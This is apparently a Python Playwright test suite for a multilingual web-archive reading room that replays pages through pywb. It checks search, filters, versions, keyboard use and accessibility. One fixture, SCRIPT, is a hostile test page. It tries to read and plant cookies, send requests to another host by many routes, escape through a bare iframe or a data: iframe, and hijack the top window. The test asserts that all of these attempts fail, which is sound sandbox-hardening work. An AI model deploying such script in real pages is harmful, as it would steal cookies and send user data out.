"""The reading room in a real Chromium: read, searched and walked by keyboard, and safe from the pages that it shows."""

from __future__ import annotations

import socket
import threading
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Error as PlaywrightError

from tests import readingstore
from tests.browser import chromium
from tests.test_replay_command import Replay, replaying

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Frame, Page

# An environment to install the first time, on a machine that may be busy. One store, one server, one browser.
pytestmark = [pytest.mark.xdist_group("replay"), pytest.mark.timeout(600)]

RUSSIAN = "Хива приняла рекордное число туристов из Японии"
TITLE = "A page that means harm to Japan and Uzbekistan · Kakehashi"
# Everything by which a script may reach another host, read a cookie, or get at the window around it; also by the
# means of a window that pywb's own script has not seen.
SCRIPT = """<div id="ran">no</div><div id="read"></div><a id="away" href="http://HOST/link" target="_top">away</a>
<form id="form" action="http://HOST/form" method="post"></form><link rel="preconnect" href="http://HOST/">
<link rel="stylesheet" href="http://HOST/style.css"><img src="http://HOST/picture.png" alt="">
<script>
var read = [];
function attempt(name, what) { try { read.push(name + ": " + what()); } catch (error) { read.push(name + " refused"); } }
var bare = document.createElement("iframe"); document.body.appendChild(bare);
var clean; try { clean = bare.contentWindow; clean.fetch; } catch (error) { clean = window; }
attempt("cookie", function () { return document.cookie; });
attempt("other cookie", function () { return clean.document.cookie; });
attempt("set cookie", function () { document.cookie = "planted=1"; });
attempt("storage", function () { return clean.localStorage.length; });
attempt("fetch", function () { fetch("http://HOST/fetch").catch(function () {}); });
attempt("clean fetch", function () { clean.fetch("http://HOST/clean", {mode: "no-cors"}).catch(function () {}); });
attempt("beacon", function () { clean.navigator.sendBeacon("http://HOST/beacon", "x"); });
attempt("socket", function () { new clean.WebSocket("ws://HOST/socket"); });
attempt("events", function () { new clean.EventSource("http://HOST/events"); });
attempt("image", function () { var one = new clean.Image(); one.src = "http://HOST/image"; });
attempt("worker", function () {
  new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/worker',{mode:'no-cors'});new WebSocket('ws://HOST/w')"])));
});
attempt("style", function () { document.body.setAttribute("style", "background:url(http://HOST/background)"); });
attempt("import", function () { clean.eval("import('http://HOST/module.js')").catch(function () {}); });
attempt("title", function () { top.document.title = "taken"; });
attempt("window", function () { clean.open("http://HOST/window"); });
attempt("form", function () { HTMLFormElement.prototype.submit.call(document.getElementById("form")); });
attempt("click", function () { document.getElementById("away").click(); });
attempt("data", function () {
  var strange = document.createElement("iframe"), end = "script>";
  strange.src = "data:text/html," + encodeURIComponent("<script>" + [
    "fetch('http://HOST/d1', {mode: 'no-cors'})", "new WebSocket('ws://HOST/d2')", "new Image().src = 'http://HOST/d3'",
    "navigator.sendBeacon('http://HOST/d4', 'x')", "top.location = 'http://HOST/d5'", "open('http://HOST/d6')",
    "location = 'http://HOST/d7'"
  ].map(function (one) { return "try { " + one + " } catch (error) {}"; }).join(";") + "</" + end);
  document.body.appendChild(strange);
});
document.getElementById("ran").textContent = "yes";
document.getElementById("read").textContent = read.join("\\n");
setTimeout(function () {
  attempt("top", function () { clean.top.location.href = "http://HOST/top"; });
  attempt("parent", function () { clean.parent.parent.location = "http://HOST/parent"; });
}, 2000);
</script>"""


@contextmanager
def counting_host() -> Iterator[tuple[str, list[bytes]]]:
    """Another host: where it listens, and the beginning of whatever anybody sent to it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                connection.settimeout(2)
                try:
                    heard.append(connection.recv(200))
                except OSError:
                    heard.append(b"connected")
                connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard
        server.shutdown(socket.SHUT_RDWR)


@dataclass(frozen=True)
class Setting:
    """The running command over the store, another host that nobody may reach, and a browser."""

    store: Path
    replay: Replay
    browser: Browser
    heard: list[bytes]

    def address(self, path: str) -> str:
        return self.replay.room.rstrip("/") + path

    def article(self, url: str) -> str:
        """The room's address of the article at a URL."""
        return self.address(f"/article/{readingstore.articles_of(self.store)[url]['id']}")


@pytest.fixture(scope="module")
def setting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setting]:
    store = tmp_path_factory.mktemp("room") / "store"
    with counting_host() as (host, heard):
        readingstore.make_store(store, script=SCRIPT.replace("HOST", host))
        with replaying(store) as replay, chromium() as browser:
            yield Setting(store, replay, browser, heard)


@pytest.fixture
def context(setting: Setting) -> Iterator[BrowserContext]:
    context = setting.browser.new_context(viewport={"width": 1280, "height": 860})
    context.set_default_timeout(30_000)
    yield context
    context.close()


@pytest.fixture
def page(context: BrowserContext) -> Iterator[Page]:
    """A tab that fails its test when a page of the room breaks its own policy, or a script of it fails."""
    page = context.new_page()
    wrong: list[str] = []
    page.on("console", lambda message: wrong.append(message.text) if "Content Security" in message.text else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    yield page
    assert wrong == []


def archived_frame(page: Page) -> Frame:
    """The frame with the archived page, once it is there."""
    page.wait_for_selector("iframe")
    page.wait_for_function("() => document.querySelector('iframe')")
    handle = page.query_selector("iframe")
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_selector("h1")
    return frame


def test_the_entrance_leads_to_articles_sources_and_days(setting: Setting, page: Page) -> None:
    """Counts, the newest articles in their own language and direction, sources, days; nothing from elsewhere."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(setting.address("/"))

    count = len(readingstore.articles_of(setting.store))
    assert f"{count} articles from 5 sources in 4 languages" in page.inner_text(".lead")
    assert page.locator("h3:lang(ja)").count() + page.locator("h3:lang(ru)").count() >= 2
    assert page.locator("section[aria-labelledby=sources] li").count() == 5
    assert page.locator("section[aria-labelledby=days] li").count() >= 8
    assert all(url.startswith(setting.replay.room) for url in asked)
    page.click("section[aria-labelledby=days] a >> nth=0")
    page.locator(".item").first.wait_for()  # a count does not wait for the page
    assert page.locator(".item").count() >= 1


@pytest.mark.parametrize(
    ("typed", "title", "marked"),
    [
        ("円借款", "ウズベキスタンに対する円借款", "円借款"),
        ("技能", "キルギス及びウズベキスタンとの技能人材に関する協力覚書の運用", "技能"),
        ("ТУРИСТ рекордное", RUSSIAN, "рекордное"),
        ("Хива", RUSSIAN, "Хив"),
        ("uglerod krediti", "Uglerod krediti va iyena qarzi", "Uglerod"),
    ],
)
def test_a_search_finds_and_marks(setting: Setting, page: Page, typed: str, title: str, marked: str) -> None:
    """In Japanese by any part of a word, in Russian and Uzbek by its beginning, in any case."""
    page.goto(setting.address("/"))
    page.fill("#q", typed)
    page.press("#q", "Enter")

    assert title in page.inner_text(".items h2 >> nth=0")
    assert (
        marked.casefold() in " ".join(page.locator(".items li >> nth=0").locator("mark").all_inner_texts()).casefold()
    )


def test_filters_narrow_the_list(setting: Setting, page: Page) -> None:
    """By source, language, label and days; what fits nothing says so."""
    page.goto(setting.address("/articles"))
    page.select_option("select[name=language]", "uz")
    page.click("button:has-text('Search')")
    assert page.inner_text(".tally") == "3 articles"

    page.goto(setting.address("/articles?source=demo-agency&since=2026-06-01&until=2026-06-30&label=core"))
    assert page.inner_text(".tally") == "1 article"
    page.goto(setting.address("/articles?label=sport"))
    assert "Nothing fits" in page.inner_text("main")


def test_an_article_stands_beside_its_archived_page(setting: Setting, page: Page) -> None:
    """Its text with language and direction, the page in a frame of another origin, provenance and what was cut."""
    found = readingstore.articles_of(setting.store)
    url = next(url for url in found if "yaponskie-turisty" in url)
    page.goto(setting.article(url))
    frame = archived_frame(page)
    place = found[url]["provenance"]

    assert page.get_attribute(".text", "lang") == "ru"
    assert page.get_attribute(".text", "dir") == "ltr"
    assert [part.strip() for part in page.locator(".text p").all_inner_texts()] == found[url]["text"].split("\n\n")
    assert frame.inner_text("h1") == RUSSIAN
    assert frame.url.startswith(setting.replay.address)
    assert page.get_attribute("iframe", "sandbox") == "allow-scripts"
    shown = page.inner_text(".origin")
    assert all(str(place[name]) in shown for name in ("warc", "offset", "record_id", "payload_digest", "captured_at"))
    assert page.locator("section[aria-labelledby=removed] tbody tr").count() == len(found[url]["removed"]) > 0


def test_versions_show_what_changed(setting: Setting, page: Page) -> None:
    """The number that was corrected, the new headline, and that the page is gone."""
    page.goto(setting.article(readingstore.EDITED))
    assert page.locator(".steps li").all_inner_texts()[-1].startswith("Gone (410)")
    page.click(".steps a >> nth=1")

    assert page.locator(".step h2").all_inner_texts() == ["Version 1", "Version 2", "Gone: 410"]
    correction = page.locator(".change.correction")
    assert correction.locator("del").all_inner_texts() == ["20"]
    assert correction.locator("ins").all_inner_texts() == ["30"]
    assert page.locator(".change.headline").count() == 1


def test_duplicates_lead_to_each_other(setting: Setting, page: Page) -> None:
    """The copy names who had it first."""
    page.goto(setting.article(readingstore.COPY))
    assert "had it first" in page.inner_text(".others")
    page.click(".others a")

    assert readingstore.ORIGINAL in page.inner_text(".origin")


def test_the_calendar_leads_to_days(setting: Setting, page: Page) -> None:
    """Days by sources: of publication, and of capture; of one URL its captures."""
    page.goto(setting.address("/calendar?month=2026-08"))
    page.click(".days tr:has-text('demo-agency') td a")
    assert RUSSIAN in page.inner_text(".items")

    page.goto(setting.address("/calendar?of=captures"))
    assert page.inner_text("#month") == "November 2026"
    page.click(".days tr:has-text('demo-magazine') td a >> nth=1")
    assert readingstore.EDITED in page.inner_text("table")
    page.goto(setting.address("/captures?url=" + quote(readingstore.EDITED, safe="")))
    assert page.locator("tbody tr").count() == 3
    assert page.locator(".tally a").get_attribute("href") == f"{setting.replay.address}*/{readingstore.EDITED}"


def test_by_keyboard_alone(setting: Setting, page: Page) -> None:
    """`/` to the search, Tab to the first result, Enter opens it; each stop is to be seen, the first skips ahead."""
    page.goto(setting.address("/sources"))
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    page.keyboard.press("Enter")
    page.wait_for_url("**/sources#main")

    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "q"
    page.keyboard.type("円借款")
    page.keyboard.press("Enter")
    page.wait_for_url("**/articles?q=*")
    for _ in range(40):
        page.keyboard.press("Tab")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
        if page.evaluate("document.activeElement.closest('.item h2') !== null"):
            break
    page.keyboard.press("Enter")
    page.wait_for_url("**/article/*")
    assert "円借款" in page.inner_text("h1")


def test_nothing_keeps_people_out(setting: Setting, page: Page) -> None:
    """Axe finds no violation on any kind of page, in the dark neither; on a telephone nothing sticks out."""
    article = setting.article(readingstore.EDITED)
    paths = ["/", "/articles?q=Japan", "/sources", "/calendar", "/captures?day=2026-11-19", "/problems", "/nowhere"]
    every = [*map(setting.address, paths), article, f"{article}/versions"]
    for scheme, addresses in (("light", every), ("dark", [every[1], every[3], *every[-2:]])):
        page.emulate_media(color_scheme=scheme)
        for address in addresses:
            page.goto(address)
            # What others wrote is not ours to mend.
            found = Axe().run(page, context={"exclude": ["iframe"]}, options={"iframes": False})
            assert [(address, one["id"], one["nodes"][0]["html"]) for one in found.response["violations"]] == []
    page.set_viewport_size({"width": 360, "height": 700})
    for address in every:
        page.goto(address)
        assert (address, page.evaluate("document.documentElement.scrollWidth")) == (address, 360)


def what_it_read(page: Page) -> tuple[str, str]:
    """Whether the script of the page that means harm ran, and what it got to read."""
    for _ in range(100):
        for frame in page.frames:
            with suppress(PlaywrightError):  # pywb leads a page that stands alone into its frame
                if "hostile-page" in frame.url and frame.query_selector("#read"):
                    frame.wait_for_load_state()
                    return frame.inner_text("#ran"), frame.inner_text("#read")
        page.wait_for_timeout(100)
    raise AssertionError("the page never came")


def test_a_page_that_means_harm_does_none(setting: Setting, context: BrowserContext) -> None:
    """In the room, in pywb's own frame and by itself: it reaches nobody, reads no cookie, and stays where it is."""
    context.add_cookies([{"name": "secret", "value": "s3cret", "url": setting.replay.room}])
    player = setting.replay.address
    for address in (
        setting.article(readingstore.HOSTILE),
        f"{player}20261119093000/{readingstore.HOSTILE}",
        f"{player}20261119093000mp_/{readingstore.HOSTILE}",
        f"{player}20261119093000id_/{readingstore.HOSTILE}",
    ):
        page = context.new_page()
        page.goto(address)
        ran, read = what_it_read(page)
        assert (address, ran) == (address, "no" if "id_/" in address else "yes")  # by itself no script of it runs
        page.wait_for_timeout(2200)  # until it has tried to lead its own frame away

        assert "s3cret" not in read
        assert page.url == address.replace("mp_/", "/")
        assert page.title() == TITLE or not address.startswith(setting.replay.room)
        assert len(context.pages) == 1, [other.url for other in context.pages]
        assert [cookie["name"] for cookie in context.cookies()] == ["secret"]
        page.close()
    assert setting.heard == []


@pytest.mark.long
def test_what_is_stored_meanwhile_appears(setting: Setting, page: Page) -> None:
    """A new WARC with its articles is found in the room, and played by pywb, without a new start."""
    url = "https://first.example/late"
    late = readingstore.article("Late news of Japan and Kyrgyzstan", readingstore.OPENING.replace("railways", "dams"))
    readingstore.write(
        setting.store, [readingstore.capture(url, late, source=None, day=3)], run="20261122T093000Zabcdef"
    )
    readingstore.process(setting.store)
    page.goto(setting.address("/articles?q=late"))
    for _ in range(60):
        if page.locator(".item").count():
            break
        page.wait_for_timeout(500)
        page.reload()
    page.click(".item h2 a")

    assert archived_frame(page).inner_text("h1") == "Late news of Japan and Kyrgyzstan"
